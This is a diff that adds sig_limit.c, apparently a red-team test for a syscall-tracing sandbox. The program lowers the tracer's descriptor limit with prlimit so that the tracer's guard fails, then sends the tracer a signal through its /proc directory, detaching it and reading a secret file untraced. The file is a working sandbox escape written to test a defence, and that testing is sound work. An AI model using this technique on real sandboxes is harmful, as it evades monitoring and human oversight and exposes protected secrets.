@@ -1,0 +1,127 @@
+/* sig_limit.c: a signal to the tracer through its /proc directory, once the tracer is out of
+ * descriptors (issue 11, red team 32; class 6, attacks on the tracer -- gap #10's guard).
+ *
+ * pidfd_send_signal takes a descriptor of a /proc/PID directory as a pidfd; the guard that
+ * refuses signals to the tracer (signals.pidfd_aims_at_tracer) tells such a directory by
+ * opening it and the "stat" file in it -- two descriptors at once.  prlimit64 on the tracer's
+ * pid is permitted (a denial of service: docs/security.md), so the program lowers the
+ * tracer's RLIMIT_NOFILE to one above what it holds: the guard's first open succeeds, its
+ * second fails EMFILE, and the directory was taken for another process's -- the signal went
+ * to the tracer.  Under --attach, SIGINT to the tracer detaches the tree: the program then
+ * runs untraced.  The limit is found by going down from 256, sending signal 0 (which checks
+ * and delivers nothing) at each, the limit put back after each try.
+ *
+ *   sig_limit control        natively: a child's RLIMIT_NOFILE lowered, SIGINT sent to it
+ *                            through its /proc directory -- ESCAPED when it died of it
+ *   sig_limit probe          traced: ESCAPED when a signal 0 through the tracer's /proc
+ *                            directory got through at some limit, else BLOCKED
+ *   sig_limit attach SECRET  prints "ready PID", waits to be traced, then as probe, and where
+ *                            it gets through sends SIGINT: ESCAPED when SECRET is then read
+ *   sig_limit read SECRET    reads SECRET: ESCAPED when it holds the secret
+ */
+#include "attack.h"
+#include <sys/resource.h>
+
+static long send_through(int dirfd, int sig) {
+    return syscall(SYS_pidfd_send_signal, dirfd, sig, NULL, 0);
+}
+
+/* The limit at which a signal 0 through dirfd (the tracer's /proc directory) gets through:
+ * it, or 0 when none does.  The tracer's limit is put back after each try. */
+static int find_limit(pid_t tracer, int dirfd, struct rlimit *old) {
+    if (prlimit(tracer, RLIMIT_NOFILE, NULL, old) < 0)
+        blocked("prlimit of the tracer %d: %s", tracer, ename(errno));
+    for (int limit = 256; limit > 0; limit--) {
+        struct rlimit lowered = {(rlim_t)limit, old->rlim_max};
+        if (prlimit(tracer, RLIMIT_NOFILE, &lowered, NULL) < 0)
+            blocked("prlimit of the tracer %d: %s", tracer, ename(errno));
+        long rc = send_through(dirfd, 0);
+        if (rc == 0)
+            return limit;  /* (still lowered: the caller sends and puts it back) */
+        prlimit(tracer, RLIMIT_NOFILE, old, NULL);
+    }
+    return 0;
+}
+
+static int open_proc_dir(pid_t pid) {
+    char name[64];
+    snprintf(name, sizeof name, "/proc/%d", (int)pid);
+    int fd = open(name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    if (fd < 0)
+        blocked("open %s: %s", name, ename(errno));
+    return fd;
+}
+
+int main(int argc, char **argv) {
+    if (argc == 2 && strcmp(argv[1], "control") == 0) {
+        pid_t child = fork();
+        if (child == 0) {
+            for (;;)
+                pause();
+        }
+        struct rlimit lowered = {4, 4};
+        if (prlimit(child, RLIMIT_NOFILE, &lowered, NULL) < 0)
+            blocked("prlimit of %d: %s", child, ename(errno));
+        int dirfd = open_proc_dir(child);
+        if (send_through(dirfd, SIGINT) < 0)
+            blocked("pidfd_send_signal: %s", ename(errno));
+        int status;
+        waitpid(child, &status, 0);
+        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGINT)
+            escaped("a process of the user's, its descriptor limit lowered, got SIGINT "
+                    "through its /proc directory");
+        blocked("the child ended otherwise (status %#x)", status);
+    }
+    if (argc == 2 && strcmp(argv[1], "probe") == 0) {
+        pid_t tracer = tracer_pid();
+        if (tracer <= 0)
+            blocked("not traced");
+        int dirfd = open_proc_dir(tracer);
+        if (send_through(dirfd, 0) == 0)
+            escaped("a signal reached the tracer through its /proc directory");
+        struct rlimit old;
+        int limit = find_limit(tracer, dirfd, &old);
+        prlimit(tracer, RLIMIT_NOFILE, &old, NULL);
+        if (limit)
+            escaped("a signal reached the tracer through its /proc directory, its descriptor "
+                    "limit lowered to %d", limit);
+        blocked("no descriptor limit let a signal reach the tracer");
+    }
+    if (argc == 3 && strcmp(argv[1], "attach") == 0) {
+        printf("ready %d\n", (int)getpid());
+        fflush(stdout);
+        pid_t tracer = 0;
+        for (int i = 0; i < 3000 && (tracer = tracer_pid()) == 0; i++)
+            usleep(10000);
+        if (tracer <= 0)
+            blocked("never traced");
+        int dirfd = open_proc_dir(tracer);
+        struct rlimit old;
+        int limit = find_limit(tracer, dirfd, &old);
+        if (!limit)
+            blocked("no descriptor limit let a signal reach the tracer");
+        long rc = send_through(dirfd, SIGINT);
+        int err = errno;
+        prlimit(tracer, RLIMIT_NOFILE, &old, NULL);
+        if (rc < 0)
+            blocked("SIGINT to the tracer, its limit %d: %s", limit, ename(err));
+        note("SIGINT sent to the tracer %d, its descriptor limit lowered to %d", tracer, limit);
+        for (int i = 0; i < 500 && tracer_pid() != 0; i++)
+            usleep(10000);
+        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+            blocked("open %s: %s (still traced: %d)", argv[2], ename(errno), tracer_pid());
+        if (is_secret_fd(fd))
+            escaped("read the secret %s, untraced (TracerPid %d)", argv[2], tracer_pid());
+        blocked("%s is no secret", argv[2]);
+    }
+    if (argc == 3 && strcmp(argv[1], "read") == 0) {
+        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+            blocked("open %s: %s", argv[2], ename(errno));
+        if (is_secret_fd(fd))
+            escaped("read the secret %s", argv[2]);
+        blocked("%s is no secret", argv[2]);
+    }
+    usage("sig_limit control | probe | attach SECRET | read SECRET");
+}
